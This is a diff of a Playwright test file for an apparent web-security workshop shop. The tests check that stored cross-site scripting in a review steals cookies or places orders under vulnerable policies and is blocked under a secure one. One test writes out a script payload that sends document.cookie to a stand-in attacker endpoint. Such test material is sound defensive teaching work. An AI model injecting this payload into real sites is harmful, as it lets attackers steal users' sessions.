@@ -3,13 +3,11 @@
 from __future__ import annotations
 
 import json
-import os
-import shutil
 import time
 from collections.abc import Callable, Iterator
 
 import pytest
-from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright
+from playwright.sync_api import Browser, BrowserContext, Page
 
 from workshop.naive import POLICIES
 from workshop.runner.catalogue import find
@@ -20,29 +18,13 @@ from workshop.shop.serving import Shop, open_session_shop
 
 pytestmark = pytest.mark.browser
 
-FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
 PATIENCE_S = 5.0
 
 
-@pytest.fixture(scope="module")
-def chromium() -> Iterator[Browser]:
-    """The system's Chromium; without one this is skipped, except in CI."""
-    path = shutil.which("chromium")
-    if path is None:
-        reason = "no chromium on the path: apt-get install chromium"
-        if os.environ.get("CI") == "true":
-            pytest.fail(reason)
-        pytest.skip(reason)
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=path, args=FLAGS)
-        yield browser
-        browser.close()
-
-
 @pytest.fixture
-def context(chromium: Browser) -> Iterator[BrowserContext]:
+def context(browser: Browser) -> Iterator[BrowserContext]:
     """One person's browser."""
-    context = chromium.new_context()
+    context = browser.new_context()
     yield context
     context.close()
 
@@ -118,14 +100,14 @@ def review(shop: Shop, context: BrowserContext, markup: str) -> None:
 
 @pytest.mark.parametrize(("policy", "stolen"), [(POLICIES["xss-theft"], True), (SECURE, False)])
 def test_a_script_that_steals(
-    chromium: Browser, context: BrowserContext, policy: Policy, stolen: bool
+    browser: Browser, context: BrowserContext, policy: Policy, stolen: bool
 ) -> None:
     """A script in a review sends document.cookie away; the defended page shows it as text."""
     with open_session_shop(policy) as shop:
         page = context.new_page()
         log_in(shop, page)
         away = shop.evil("/collect?c=")
-        mallory = chromium.new_context()
+        mallory = browser.new_context()
         review(shop, mallory, f"<script>fetch('{away}'+escape(document.cookie))</script>")
         page.goto(home(shop, "/reviews"))
         if stolen:
@@ -144,7 +126,7 @@ def test_a_script_that_steals(
 
 @pytest.mark.parametrize(("policy", "ordered"), [(POLICIES["xss-riding"], True), (SECURE, False)])
 def test_a_script_that_rides(
-    chromium: Browser, context: BrowserContext, policy: Policy, ordered: bool
+    browser: Browser, context: BrowserContext, policy: Policy, ordered: bool
 ) -> None:
     """HttpOnly and SameSite are both there, and a script on the page orders all the same."""
     from workshop.attacks.xss_riding import MARKUP
@@ -152,7 +134,7 @@ def test_a_script_that_rides(
     with open_session_shop(policy) as shop:
         page = context.new_page()
         log_in(shop, page)
-        mallory = chromium.new_context()
+        mallory = browser.new_context()
         review(shop, mallory, MARKUP)
         if ordered:
             with page.expect_response("**/cart"):
